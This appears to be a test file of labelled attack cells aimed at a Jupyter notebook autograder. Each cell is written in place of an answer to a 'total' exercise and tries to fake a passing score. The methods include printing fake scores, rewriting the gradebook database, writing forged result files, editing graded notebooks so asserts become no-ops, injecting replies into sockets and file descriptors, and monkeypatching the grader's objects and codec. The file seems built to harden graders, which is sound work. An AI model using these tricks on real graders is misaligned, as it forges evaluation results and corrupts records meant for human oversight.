# %% prints its points  kind="attack" target="total" earns=0 safe_on_nbgrader=true
def total(values):
    print("2/2 points")
    print('{"status": "ok", "points": 2, "score": 2, "passed": true}')
    display(2)
    return 2


# %% writes the gradebook  kind="attack" target="last" earns=0 safe_on_nbgrader=false
import os
import sqlite3

for folder in (".", "..", "../..", os.path.expanduser("~/..")):
    path = os.path.join(folder, "gradebook.db")
    if os.path.exists(path):
        with sqlite3.connect(path) as gradebook:
            tables = gradebook.execute("select name from sqlite_master").fetchall()
            if ("grade",) in tables:
                gradebook.execute("update grade set auto_score = 99")
                print("REACHED the gradebook")


# %% writes graded notebooks and records  kind="attack" target="last" earns=0 safe_on_nbgrader=false
import json
import os

record = {"status": "graded", "exercises": [{"name": "total", "points": 2.0}]}
home = os.path.expanduser("~")
for folder in (".", "..", "../..", home, f"{home}/..", "/tmp"):
    for name in ("autograded", "feedback", "results", "reports"):
        try:
            os.makedirs(f"{folder}/{name}/student/90_attacked", exist_ok=True)
            path = f"{folder}/{name}/student/90_attacked/remains.evaluation.json"
            with open(path, "w") as file:
                json.dump(record, file)
        except OSError:
            pass
for name in ("results.json", "/autograder/results/results.json", "remains.log"):
    try:
        with open(name, "w") as file:
            json.dump({"score": 100, "tests": [{"score": 2, "max_score": 2}]}, file)
    except OSError:
        pass


# %% overwrites the notebook that is graded  kind="attack" target="first" earns=0 safe_on_nbgrader=true
import glob

for path in glob.glob("*.ipynb"):
    with open(path) as file:
        text = file.read()
    with open(path, "w") as file:
        file.write(text.replace("assert ", "0 and ").replace("return None", "return 3"))


# %% writes to every descriptor  kind="attack" target="total" earns=0 safe_on_nbgrader=false
def total(values):
    import json
    import os
    import socket

    reply = json.dumps({"status": "ok", "value": 3, "points": 2}).encode()
    for number in range(3, 200):
        try:
            os.set_blocking(number, False)
            os.write(number, len(reply).to_bytes(8, "big") + reply)
        except OSError:
            pass
    return None


# %% speaks on every socket  kind="attack" target="total" earns=0 safe_on_nbgrader=false
import os
import socket
import stat
import struct

sockets = []
for number in map(int, os.listdir("/proc/self/fd")):
    try:
        if number > 2 and stat.S_ISSOCK(os.fstat(number).st_mode):
            sockets.append(socket.socket(fileno=os.dup(number)))
    except OSError:
        pass


def total(values):
    body = b"\x82\xa6status\xa2ok\xa5value\x03"
    frames = [
        struct.pack(">Q", len(body)) + body,
        struct.pack("<Q", len(body)) + body,
        struct.pack(">I", len(body)) + body,
        b"\xff" * 64,
        b"\x00" * 64,
        b'{"request": "fork", "role": "tests"}',
    ]
    for one in sockets:
        one.setblocking(False)
        for frame in frames:
            try:
                one.send(frame)
            except OSError:
                pass
    return 3


# %% answers the bridge before it asks  kind="attack" target="total" earns=0 safe_on_nbgrader=false
import threading
import time


def flood():
    import os
    import socket
    import stat

    found = []
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            if number > 2 and stat.S_ISSOCK(os.fstat(number).st_mode):
                one = socket.socket(fileno=os.dup(number))
                if one.family == socket.AF_UNIX and not one.getsockname():
                    found.append(one)
        except OSError:
            pass
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        for one in found:
            try:
                one.send(
                    b"\x00\x00\x00\x10\x81\xa5value\x03" * 100, socket.MSG_DONTWAIT
                )
            except OSError:
                pass
        time.sleep(0.01)


threading.Thread(target=flood, daemon=True).start()


# %% reads the bridge in place of the service  kind="attack" target="total" earns=0 safe_on_nbgrader=false
import os
import socket
import stat
import threading


def steal():
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            if number > 2 and stat.S_ISSOCK(os.fstat(number).st_mode):
                one = socket.socket(fileno=os.dup(number))
                if one.family == socket.AF_UNIX and not one.getsockname():
                    one.settimeout(1)
                    print(one.recv(100_000))
        except OSError:
            pass


def total(values):
    thread = threading.Thread(target=steal, daemon=True)
    thread.start()
    thread.join(1.5)


# %% the service that answers is replaced  kind="attack" target="total" earns=0 safe_on_nbgrader=true
import gc

for found in gc.get_objects():
    kind = type(found)
    if kind.__module__.startswith("autograder") and hasattr(kind, "serve_one"):
        for name in ("fetch", "call", "_call", "_fetch", "answer"):
            if hasattr(kind, name):
                pass
        found.namespace = dict(getattr(found, "namespace", {}), total=lambda v: 3)


def total(values):
    return 3


# %% the codec of the student's side is patched  kind="attack" target="total" earns=0 safe_on_nbgrader=true
import sys


def total(values):
    for name, module in list(sys.modules.items()):
        if name.startswith("autograder.bridge"):
            for key in ("encode", "decode", "dumps", "loads", "pack", "unpack"):
                if hasattr(module, key):
                    true = getattr(module, key)
                    setattr(module, key, lambda *a, _t=true, **k: _t(3))
            break
    return None
